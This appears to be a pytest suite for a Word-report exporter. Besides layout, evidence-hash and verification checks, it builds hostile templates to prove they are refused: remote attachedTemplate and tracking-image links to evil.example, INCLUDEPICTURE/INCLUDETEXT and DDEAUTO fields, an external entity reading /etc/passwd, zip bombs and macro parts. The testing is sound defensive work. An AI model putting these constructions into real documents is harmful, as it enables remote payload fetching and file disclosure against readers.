"""A report as a Word file: all that the PDF says, in parts of Word's own; of a template only its looks."""

import datetime as dt
import hashlib
import io
import re
import zipfile
from dataclasses import replace
from pathlib import Path

import pytest
from docx import Document
from docx.opc.constants import CONTENT_TYPE, RELATIONSHIP_TYPE
from docx.oxml import OxmlElement
from docx.oxml.ns import qn
from docx.shared import Cm, Pt, RGBColor
from lxml import etree

import zebra_resources
from tests.core.samples import HOSTILE, demo_assessments, demo_material, project_of
from zebra_core.errors import InputError, OutputError
from zebra_core.files import strict_json
from zebra_core.project.gathering.gathering import gather
from zebra_core.project.report_settings import Logo, Paper, ReportSettings
from zebra_core.report.document import TableBlock, in_order
from zebra_core.report.export import make_report, save_word_report
from zebra_core.report.verification import VerificationStatus
from zebra_core.report.verify import verify
from zebra_core.report.word import words_of
from zebra_core.wording.texts import say, speaking

DATE = dt.date(2026, 11, 20)
COARSE = 72
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010802000000907753de0000000c49444154789c63f8cfc0000003"
    "010100c9fe92ef0000000049454e44ae426082"
)


def material_in(language="en", **settings):
    english = demo_material()
    report = replace(english.project.report, language=language, dpi=COARSE, **settings)
    return replace(english, project=replace(english.project, report=report))


def small(**settings):
    return gather(replace(project_of("a"), report=ReportSettings(dpi=COARSE, **settings)))


def saved(tmp_path, material, name="report.docx", **more):
    path, _ = save_word_report(material, tmp_path / name, date=DATE, overwrite=True, **more)
    return path


@pytest.fixture(scope="module")
def german_material():
    return material_in("de", signers=("A. Expert",))


@pytest.fixture(scope="module")
def german(tmp_path_factory, german_material) -> Path:
    return saved(tmp_path_factory.mktemp("word"), german_material)


@pytest.fixture(scope="module")
def german_content(german_material):
    return make_report(german_material, date=DATE).content


def headings(document, level=1):
    return [one.text for one in document.paragraphs if one.style.name == f"Heading {level}"]


def true_tables(document):
    """Those of the report: two pictures beside each other stand in a table without a head."""
    return [table for table in document.tables if next(table._tbl.iter(qn("w:tblHeader")), None) is not None]


def parts(path):
    with zipfile.ZipFile(path) as packed:
        return {name: packed.read(name) for name in packed.namelist()}


def all_text(path):
    return "\n".join(content.decode("utf-8", "replace") for content in parts(path).values())


def plain(text):
    """Letters alone: figures are kept in one line by blanks that do not break, and hashes broken in two."""
    return re.sub(r"\s", "", text)


def fields(root):
    return [" ".join((one.text or "").split()) for one in root.iter(qn("w:instrText"))]


def test_the_headings_of_a_german_report_stand_in_their_order(german, german_content):
    document = Document(german)
    with speaking("de"):
        wanted = [say("answer.head"), *(section.heading for section in german_content.sections)]
    assert headings(document) == wanted
    assert "Befunde" in wanted
    outline = document.styles["Heading 1"].element.find(f".//{qn('w:outlineLvl')}")
    assert outline.get(qn("w:val")) == "0"


def test_every_table_has_the_cells_of_the_report_under_a_head_that_is_repeated(german, german_content):
    blocks = [
        block
        for part in (german_content.answer, *(section.blocks for section in german_content.sections))
        for block in in_order(part)
        if isinstance(block, TableBlock)
    ]
    tables = true_tables(Document(german))
    assert len(tables) == len(blocks) > 10
    for table, block in zip(tables, blocks, strict=True):
        head, *rows = [[cell.text for cell in row.cells] for row in table.rows]
        assert head == [column.head for column in block.columns]
        for shown, cells in zip(rows, block.rows, strict=True):
            for text, cell in zip(shown, cells, strict=True):
                wanted = [cell.badge.tag] if cell.badge else []
                assert plain(text) == plain("".join([*wanted, cell.text, cell.note]))
        assert all(row._tr.find(f".//{qn('w:cantSplit')}") is not None for row in table.rows)


def test_its_figures_are_those_of_the_evidence_beside_it(german):
    evidence = strict_json.parse(german.with_name("report.evidence.json").read_bytes(), int)
    heads = [[cell.text for cell in table.rows[0].cells[:2]] for table in true_tables(Document(german))]
    table = true_tables(Document(german))[heads.index(["Kategorie", "Bewertung, Target / Nontarget"])]
    shown = [row.cells[2].text.split("\n")[0] for row in table.rows[1:]]
    stated = [f"{one['d_ece_bits']:.3f}".replace(".", ",") for one in evidence["assessments"]]
    assert shown == stated


def test_every_picture_says_what_it_shows_and_is_no_wider_than_the_text(german, german_content):
    document = Document(german)
    described = [one.get("descr") for one in document.element.iter(qn("wp:docPr"))]
    assert all(described)
    assert {picture.figure.alt_text for picture in german_content.pictures} <= set(described)
    section = document.sections[0]
    room = section.page_width - section.left_margin - section.right_margin
    assert all(0 < int(one.get("cx")) <= room for one in document.element.iter(qn("wp:extent")))
    numbers = [one.get("id") for one in document.element.iter(qn("wp:docPr"))]
    assert len(set(numbers)) == len(numbers)


def test_captions_are_numbered_by_word_and_begin_with_the_word_of_the_language(german, german_content):
    captions = [one for one in Document(german).paragraphs if one.style.name == "Caption"]
    pictures = [one for one in captions if one.text.startswith("Abbildung ")]
    assert [one.text.split(".")[0] for one in pictures] == [
        f"Abbildung {n + 1}" for n in range(len(pictures))
    ]
    assert {tuple(fields(one._p)) for one in captions} == {
        (r"SEQ Abbildung \* ARABIC",),
        (r"SEQ Tabelle \* ARABIC",),
    }


def test_the_language_the_pages_and_the_properties_are_stated(german):
    document = Document(german)
    stated = document.core_properties
    assert (stated.language, stated.created) == ("de-DE", dt.datetime(2026, 11, 20, tzinfo=dt.UTC))
    assert stated.title == "Demo: LibriSpeech, Sprecherinnen"
    languages = {one.get(qn("w:val")) for one in document.styles.element.iter(qn("w:lang"))}
    assert languages == {"de-DE"}
    foot = document.sections[0].footer
    assert fields(foot._element) == ["PAGE", "NUMPAGES"]
    assert "Seite 1 von 1" in foot.paragraphs[0].text
    assert r'TOC \o "1-1" \h \z \u' in fields(document.element)


def test_it_says_that_it_is_a_working_copy_of_which_evidence(german):
    digest = hashlib.sha256(german.with_name("report.evidence.json").read_bytes()).hexdigest()
    document = Document(german)
    assert document.core_properties.keywords == f"evidence-sha256:{digest}"
    assert f"Arbeitskopie · ENTWURF · Nachweise: SHA-256 {digest}" in [
        one.text for one in document.sections[0].header.paragraphs
    ]
    (said,) = [one.text for one in document.paragraphs if one.text.startswith("Arbeitskopie: ")]
    assert digest in said
    assert "report.evidence.json" in said
    assert "nicht prüfen" in said


def test_the_pdf_of_the_same_project_has_the_same_evidence(german, german_material):
    assert (
        german.with_name("report.evidence.json").read_bytes()
        == make_report(german_material, date=DATE).evidence
    )


def test_the_same_report_gives_the_same_bytes(tmp_path):
    one, other = (saved(tmp_path / name, small()) for name in ("a", "b") if not (tmp_path / name).mkdir())
    assert one.read_bytes() == other.read_bytes()
    with zipfile.ZipFile(one) as packed:
        assert {info.date_time for info in packed.infolist()} == {(1980, 1, 1, 0, 0, 0)}


@pytest.mark.parametrize(("paper", "width"), [(Paper.A4, 210.0), (Paper.LETTER, 215.9)])
def test_the_paper_is_that_of_the_report(tmp_path, paper, width):
    page = Document(saved(tmp_path, small(paper=paper))).sections[0]
    assert page.page_width.mm == pytest.approx(width, abs=0.1)


def test_a_summary_is_the_answer_alone(tmp_path):
    document = Document(saved(tmp_path, small(), is_summary=True))
    assert headings(document) == ["The answer"]
    assert headings(document, 2) == ["What the figures mean"]


def test_a_logo_stands_above_the_title(tmp_path):
    document = Document(saved(tmp_path, small(logo=Logo(PNG))))
    assert next(document.element.iter(qn("wp:docPr"))).get("descr") == "Logo of the organisation"


def test_each_list_with_numbers_begins_at_one(tmp_path):
    material = small(question="1. first\n2. second", propositions="1. one\n2. other")
    document = Document(saved(tmp_path, material))
    used = [
        (one.text, one._p.find(f".//{qn('w:numId')}").get(qn("w:val")))
        for one in document.paragraphs
        if one.style.name == "List Number"
    ]
    own = {text: number for text, number in used if text in ("first", "second", "one", "other")}
    assert own["first"] == own["second"] != own["one"] == own["other"]


@pytest.mark.parametrize("name", HOSTILE.values(), ids=HOSTILE)
def test_no_name_is_anything_but_a_name(tmp_path, name):
    """Neither XML nor a field comes of it, and what XML cannot hold is spelt out."""
    field = r'{ INCLUDEPICTURE "http://example.org/x" } <w:fldSimple w:instr="DDEAUTO"/>'
    project = replace(project_of(name), title=f"{name} {field}")
    material = gather(replace(project, report=ReportSettings(dpi=COARSE, case=name, author=name)))
    path = saved(tmp_path, material)
    document = Document(path)
    asked = {one.split()[0] for one in fields(document.element) if one}
    assert asked <= {"SEQ", "TOC"}
    assert list(document.element.iter(qn("w:fldSimple"))) == []
    assert field in "\n".join(one.text for one in document.paragraphs)


# --- templates


def template(path, *, change=lambda _document: None, parts=lambda _name, content: content, more=()):
    """A letterhead with styles of its own, headers and body; then with parts changed, or more of them."""
    document = Document()
    document.styles["Heading 1"].font.color.rgb = RGBColor(0x12, 0x34, 0x56)
    document.styles["Normal"].font.name = "Georgia"
    document.styles["Caption"].font.size = Pt(7)
    document.sections[0].left_margin = Cm(4)
    document.sections[0].header.paragraphs[0].text = "Chambers of A. Judge"
    document.add_paragraph("Body of another case")
    document.core_properties.author = "Somebody else"
    change(document)
    held = io.BytesIO()
    document.save(held)
    with zipfile.ZipFile(held) as packed, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as again:
        for name in packed.namelist():
            again.writestr(name, parts(name, packed.read(name)))
        for name, content in more:
            again.writestr(name, content)
    return path


def test_a_template_lends_its_styles_page_and_header_and_nothing_else(tmp_path):
    path = saved(tmp_path, small(), template=template(tmp_path / "house.docx"))
    document = Document(path)
    assert document.styles["Heading 1"].font.color.rgb == RGBColor(0x12, 0x34, 0x56)
    assert document.styles["Normal"].font.name == "Georgia"
    assert document.styles["Caption"].font.size == Pt(7)
    assert document.sections[0].left_margin.cm == pytest.approx(4.0, abs=0.01)
    head = [one.text for one in document.sections[0].header.paragraphs]
    assert head[0] == "Chambers of A. Judge"
    assert head[1].startswith("Working copy · ")
    assert fields(document.sections[0].footer._element) == ["PAGE", "NUMPAGES"]
    text = all_text(path)
    assert "Body of another case" not in text
    assert "Somebody else" not in text
    assert document.core_properties.language == "en-GB"
    room = (
        document.sections[0].page_width - document.sections[0].left_margin - document.sections[0].right_margin
    )
    assert all(int(one.get("cx")) <= room for one in document.element.iter(qn("wp:extent")))


def test_a_template_without_the_styles_that_are_needed_is_given_them(tmp_path):
    bare = template(tmp_path / "bare.docx", parts=_without_styles)
    document = Document(saved(tmp_path, small(), template=bare))
    names = {style.name for style in document.styles}
    assert {"Heading 1", "Caption", "List Bullet", "Table Grid", "Title", "Header"} <= names
    assert headings(document)[0] == "The answer"


def _without_styles(name, content):
    if name != "word/styles.xml":
        return content
    root = etree.fromstring(content)
    for style in root.findall(qn("w:style")):
        root.remove(style)
    return etree.tostring(root)


def test_a_field_for_the_page_that_is_there_is_not_doubled(tmp_path):
    def numbered(document):
        simple = OxmlElement("w:fldSimple")
        simple.set(qn("w:instr"), " PAGE ")
        document.sections[0].footer.paragraphs[0]._p.append(simple)

    document = Document(saved(tmp_path, small(), template=template(tmp_path / "t.docx", change=numbered)))
    foot = document.sections[0].footer._element
    assert [one.get(qn("w:instr")) for one in foot.iter(qn("w:fldSimple"))] == [" PAGE "]
    assert fields(foot) == []


def test_every_kind_of_page_says_that_it_is_a_working_copy(tmp_path):
    def three_kinds(document):
        document.settings.odd_and_even_pages_header_footer = True
        document.sections[0].different_first_page_header_footer = True
        document.sections[0].first_page_header.paragraphs[0].text = "Letterhead"

    document = Document(saved(tmp_path, small(), template=template(tmp_path / "t.docx", change=three_kinds)))
    section = document.sections[0]
    for head in (section.header, section.first_page_header, section.even_page_header):
        assert any(one.text.startswith("Working copy") for one in head.paragraphs)
    assert section.first_page_header.paragraphs[0].text == "Letterhead"


def test_headers_of_earlier_sections_go_unless_the_last_one_takes_them_over(tmp_path):
    def sections(document):
        second = document.add_section()
        assert second.header.is_linked_to_previous

    document = Document(saved(tmp_path, small(), template=template(tmp_path / "t.docx", change=sections)))
    assert len(document.sections) == 1
    assert document.sections[0].header.paragraphs[0].text == "Chambers of A. Judge"

    def another(document):
        second = document.add_section()
        second.header.is_linked_to_previous = False
        second.header.paragraphs[0].text = "The second"

    path = saved(tmp_path, small(), template=template(tmp_path / "u.docx", change=another))
    assert "Chambers" not in all_text(path)


def test_a_template_of_words_own_ending_is_one_too(tmp_path):
    def as_template(name, content):
        old, new = (
            CONTENT_TYPE.WML_DOCUMENT_MAIN,
            CONTENT_TYPE.WML_DOCUMENT_MAIN.replace("document.main", "template.main"),
        )
        return content.replace(old.encode(), new.encode()) if name == "[Content_Types].xml" else content

    made = template(tmp_path / "house.dotx", parts=as_template)
    assert b"template.main" in parts(made)["[Content_Types].xml"]
    assert "Chambers" in all_text(saved(tmp_path, small(), template=made))


def attached(document):
    settings = document.part.part_related_by(RELATIONSHIP_TYPE.SETTINGS)
    kind = RELATIONSHIP_TYPE.SETTINGS.replace("settings", "attachedTemplate")
    key = settings.relate_to("http://evil.example/attached.dotm", kind, is_external=True)
    wanted = OxmlElement("w:attachedTemplate")
    wanted.set(qn("r:id"), key)
    settings.element.insert(0, wanted)


def remote_picture(document):
    header = document.sections[0].header
    run = header.paragraphs[0].add_run()
    run.add_picture(io.BytesIO(PNG))
    (blip,) = header._element.iter(qn("a:blip"))
    key = header.part.relate_to("http://evil.example/pixel.png", RELATIONSHIP_TYPE.IMAGE, is_external=True)
    del blip.attrib[qn("r:embed")]
    blip.set(qn("r:link"), key)


def linked_words(document):
    header = document.sections[0].header
    link = OxmlElement("w:hyperlink")
    key = header.part.relate_to("http://evil.example/", RELATIONSHIP_TYPE.HYPERLINK, is_external=True)
    link.set(qn("r:id"), key)
    run = OxmlElement("w:r")
    text = OxmlElement("w:t")
    text.text = "www.chambers"
    run.append(text)
    link.append(run)
    header.paragraphs[0]._p.append(link)


def fetching_field(document):
    paragraph = document.sections[0].header.paragraphs[0]
    words = (" INCLUDE", 'PICTURE "http://evil.example/x" ')
    for kind, text in (("begin", ""), *(("", each) for each in words), ("separate", ""), ("end", "")):
        run = paragraph.add_run()
        one = OxmlElement("w:fldChar" if kind else "w:instrText")
        if kind:
            one.set(qn("w:fldCharType"), kind)
        else:
            one.text = text
        run._r.append(one)


def old_picture(document):
    document.sections[0].header.paragraphs[0]._p.append(
        etree.fromstring(
            '<w:r xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
            'xmlns:v="urn:schemas-microsoft-com:vml"><w:pict><v:shape><v:imagedata src="http://evil.example/a.png"/></v:shape>'
            "</w:pict></w:r>"
        )
    )


def body_of_links(document):
    document.part.relate_to("http://evil.example/", RELATIONSHIP_TYPE.HYPERLINK, is_external=True)


@pytest.mark.parametrize("elsewhere", [attached, body_of_links])
def test_what_is_not_taken_over_may_lead_elsewhere(tmp_path, elsewhere):
    made = template(tmp_path / "t.docx", change=elsewhere)
    assert "evil.example" in all_text(made)
    assert "evil.example" not in all_text(saved(tmp_path, small(), template=made))


@pytest.mark.parametrize(
    ("hostile", "code", "said"),
    [
        (remote_picture, "template-links", "leads to http://evil.example/pixel.png"),
        (linked_words, "template-links", "leads to http://evil.example/"),
        (old_picture, "template-links", "leads to http://evil.example/a.png"),
        (fetching_field, "template-field", "the field INCLUDEPICTURE"),
    ],
)
def test_a_header_that_leads_elsewhere_is_refused_with_what_is_in_it(tmp_path, hostile, code, said):
    made = template(tmp_path / "t.docx", change=hostile)
    with pytest.raises(InputError) as refused:
        saved(tmp_path, small(), template=made)
    assert refused.value.code == code
    assert said in str(refused.value)


def test_a_field_in_a_field_is_not_what_it_seems(tmp_path):
    def nested(document):
        simple = OxmlElement("w:fldSimple")
        simple.set(qn("w:instr"), " PAGE ")
        asked = OxmlElement("w:instrText")
        asked.text = ' INCLUDETEXT "http://evil.example" '
        document.sections[0].header.paragraphs[0]._p.extend((simple, asked))

    with pytest.raises(InputError, match="the field INCLUDETEXT"):
        saved(tmp_path, small(), template=template(tmp_path / "t.docx", change=nested))


def test_a_picture_of_its_own_stays_in_the_header(tmp_path):
    def letterhead(document):
        document.sections[0].header.paragraphs[0].add_run().add_picture(io.BytesIO(PNG))

    path = saved(tmp_path, small(), template=template(tmp_path / "t.docx", change=letterhead))
    head = Document(path).sections[0].header
    (blip,) = head._element.iter(qn("a:blip"))
    assert head.part.related_parts[blip.get(qn("r:embed"))].blob == PNG


def _bomb(name, content):
    return b"<w:styles>" + b" " * (80 << 20) if name == "word/styles.xml" else content


def _doctype(name, content):
    if name != "word/styles.xml":
        return content
    return content.replace(b"?>", b'?><!DOCTYPE x [<!ENTITY a "aaaa">]>', 1)


def _broken(name, content):
    return content[: len(content) // 2] if name == "word/document.xml" else content


def _narrow(document):
    document.sections[0].left_margin = document.sections[0].page_width - Cm(4)


def _vector_picture(document):
    header = document.sections[0].header
    header.paragraphs[0].add_run().add_picture(io.BytesIO(PNG))
    (rel,) = header.part.rels.values()
    rel.target_part._content_type = "image/svg+xml"


def _vector_picture_under_another_name(document):
    _vector_picture(document)
    (rel,) = document.sections[0].header.part.rels.values()
    rel.target_part._content_type, rel.target_part._blob = "image/png", b"\xef\xbb\xbf <svg/>"


def _strict_field(name, content):
    field = b'<s:fldSimple xmlns:s="http://purl.oclc.org/ooxml/wordprocessingml/main" s:instr=" DATE "/>'
    return content.replace(b"</w:hdr>", field + b"</w:hdr>")


def _field_within_another(name, content):
    field = b'<w:fldSimple w:instr=" STYLEREF {INCLUDEPICTURE http://203.0.113.9 }"/>'
    return content.replace(b"</w:hdr>", field + b"</w:hdr>")


def _other_encoding(name, content):
    if not name.startswith("word/header"):
        return content
    doctype = '<?xml version="1.0" encoding="UTF-32"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    return (
        doctype + content.decode().partition("?>")[2].replace("</w:p>", "<w:r><w:t>&e;</w:t></w:r></w:p>")
    ).encode("utf-32")


def _strict(name, content):
    strict = b"http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument"
    return (
        content.replace(RELATIONSHIP_TYPE.OFFICE_DOCUMENT.encode(), strict)
        if name == "_rels/.rels"
        else content
    )


def _header_that_is_none(name, content):
    return content.replace(b"w:hdr", b"w:ftr") if name.startswith("word/header") else content


def _no_numbers(name, content):
    return (
        re.sub(rb'w:abstractNumId="\d+"', b'w:abstractNumId="x"', content)
        if name == "word/numbering.xml"
        else content
    )


def _no_page(name, content):
    return re.sub(rb'w:w="\d+"', b'w:w="wide"', content) if name == "word/document.xml" else content


def _macro_type(name, content):
    macros = b"application/vnd.ms-word.document.macroEnabled.main+xml"
    return (
        content.replace(CONTENT_TYPE.WML_DOCUMENT_MAIN.encode(), macros)
        if name == "[Content_Types].xml"
        else content
    )


@pytest.mark.parametrize(
    ("change", "code"),
    [
        ({"parts": _bomb}, "template-too-large"),
        ({"more": [(f"word/{n}.bin", b"") for n in range(2001)]}, "template-too-large"),
        ({"more": [("word/vbaProject.bin", b"x")]}, "template-macros"),
        ({"more": [("word/activeX/activeX1.xml", b"x")]}, "template-macros"),
        ({"parts": _macro_type}, "template-macros"),
        ({"change": _narrow}, "template-narrow"),
        ({"change": _vector_picture}, "template-object"),
        ({"change": _vector_picture_under_another_name}, "template-object"),
        ({"parts": _strict}, "template-strict"),
        ({"parts": _strict_field}, "template-strict"),
        ({"parts": _field_within_another}, "template-field"),
        ({"parts": _other_encoding}, "template-not-word"),
        ({"parts": _header_that_is_none}, "template-not-word"),
        ({"parts": _broken}, "template-not-word"),
        ({"parts": _no_numbers}, "template-not-word"),
        ({"parts": _no_page}, "template-not-word"),
    ],
)
def test_a_template_that_is_none_is_refused_with_a_cure(tmp_path, change, code):
    made = template(tmp_path / "t.docx", **change)
    with pytest.raises(InputError) as refused:
        saved(tmp_path, small(), template=made)
    assert refused.value.code == code
    assert "t.docx" in str(refused.value)
    assert not (tmp_path / "report.docx").exists()


@pytest.mark.parametrize(
    "content", [b"", b"PK\x03\x04", b"{\\rtf1 }", b"%PDF-1.7", b"PK\x05\x06" + 18 * b"\0"]
)
def test_what_is_no_document_is_no_template(tmp_path, content):
    (tmp_path / "t.docx").write_bytes(content)
    with pytest.raises(InputError) as refused:
        saved(tmp_path, small(), template=tmp_path / "t.docx")
    assert refused.value.code == "template-not-word"


def test_entities_of_a_template_are_not_expanded(tmp_path):
    path = saved(tmp_path, small(), template=template(tmp_path / "t.docx", parts=_doctype))
    assert "DOCTYPE" not in all_text(path)


def test_a_locked_template_is_told_from_a_broken_one(tmp_path):
    (tmp_path / "t.docx").write_bytes(bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504))
    with pytest.raises(InputError, match="password or a sensitivity label"):
        saved(tmp_path, small(), template=tmp_path / "t.docx")


def test_a_template_without_a_page_is_given_ours(tmp_path):
    def no_page(document):
        document.element.body.remove(document.element.body.sectPr)

    path = saved(tmp_path, small(), template=template(tmp_path / "t.docx", change=no_page))
    assert Document(path).sections[0].page_width.mm == pytest.approx(210, abs=0.1)


def test_a_heading_that_is_a_style_for_letters_does_not_hide_those_of_the_report(tmp_path):
    def letters(document):
        document.styles["Heading 1"].element.set(qn("w:type"), "character")

    document = Document(saved(tmp_path, small(), template=template(tmp_path / "t.docx", change=letters)))
    (answer,) = [one for one in document.paragraphs if one.text == "The answer"]
    assert answer.style.name == "ZEBRA Heading 1"
    assert answer.style.element.find(f".//{qn('w:outlineLvl')}").get(qn("w:val")) == "0"


def test_a_template_without_lists_is_given_them(tmp_path):
    def bare(name, content):
        if name == "word/_rels/document.xml.rels":
            return re.sub(rb'<Relationship [^>]*/numbering"[^>]*/>', b"", content)
        return _without_styles(name, content)

    material = small(question="1. first\n2. second\n- other")
    path = saved(tmp_path, material, template=template(tmp_path / "t.docx", parts=bare))
    document = Document(path)
    kinds = {one.get(qn("w:val")) for one in document.part.numbering_part.element.iter(qn("w:numFmt"))}
    assert {"bullet", "decimal"} <= kinds
    listed = [one for one in document.paragraphs if one._p.find(f".//{qn('w:numId')}") is not None]
    assert {"first", "second", "other"} <= {one.text for one in listed}


def test_a_missing_template_is_named(tmp_path):
    with pytest.raises(InputError) as refused:
        saved(tmp_path, small(), template=tmp_path / "gone.docx")
    assert refused.value.code == "missing"


# --- writing and verifying


def test_neither_file_is_overwritten_unasked_and_both_are_written_or_none(tmp_path):
    beside = tmp_path / "report.evidence.json"
    beside.write_bytes(b"mine")
    with pytest.raises(OutputError) as refused:
        save_word_report(small(), tmp_path / "report.docx", date=DATE)
    assert refused.value.code == "exists"
    assert [path.name for path in tmp_path.iterdir()] == ["report.evidence.json"]
    assert beside.read_bytes() == b"mine"


def test_the_evidence_beside_a_word_file_is_verified_and_the_file_itself_is_not(tmp_path):
    material = material_in()
    path = saved(
        tmp_path, replace(material, project=replace(demo_assessments(), report=material.project.report))
    )
    found = verify(path, [zebra_resources.path("demo")])
    *others, last = found.checked
    assert {one.status for one in others} == {VerificationStatus.VERIFIED}
    assert others[0].what == "evidence beside the Word file"
    assert last.status is VerificationStatus.NOT_COMPARED
    assert "Anybody can change a Word file" in last.found
    assert not found.is_verified


def test_evidence_that_is_not_that_of_the_word_file_is_found(tmp_path):
    path = saved(tmp_path, small())
    other = saved(tmp_path, small(case="another"), "other.docx")
    other.with_name("other.evidence.json").replace(path.with_name("report.evidence.json"))
    assert verify(path).checked[0].status is VerificationStatus.DIFFERS


def test_a_word_file_without_its_evidence_says_what_to_verify_instead(tmp_path):
    path = saved(tmp_path, small())
    path.with_name("report.evidence.json").unlink()
    with pytest.raises(
        InputError, match=r"Give the report as a PDF, or put report\.evidence\.json beside it"
    ):
        verify(path)


def _properties_of(size, packing):
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", packing) as packed:
        packed.writestr("docProps/core.xml", b" " * size)
    return held.getvalue()


@pytest.mark.parametrize(
    "content",
    [
        b"PK\x03\x04 no archive",
        _properties_of((1 << 20) + 1, zipfile.ZIP_DEFLATED),
        _properties_of(1, zipfile.ZIP_LZMA),
    ],
    ids=["no archive", "a bomb", "another packing"],
)
def test_a_word_file_that_is_none_is_not_verified(tmp_path, content):
    path = tmp_path / "report.docx"
    path.write_bytes(content)
    path.with_name("report.evidence.json").write_bytes(b"{}")
    with pytest.raises(InputError) as refused:
        verify(path)
    assert refused.value.code == "word-of-nothing"


def test_all_that_can_be_read_in_it_is_looked_at_for_names(tmp_path):
    def named(document):
        document.sections[0].header.paragraphs[0].text = "Speaker Sokrates"

    path = saved(
        tmp_path, small(case="Case of Xanthippe"), template=template(tmp_path / "t.docx", change=named)
    )
    said = words_of(path.read_bytes()).decode()
    assert "Sokrates" in said
    assert "Xanthippe" in said
    assert "w:tbl" not in said
    looked = {}
    saved(tmp_path, small(), look=lambda files, _ours: looked.update(files))
    assert set(looked) == {"report.docx", "report.evidence.json"}
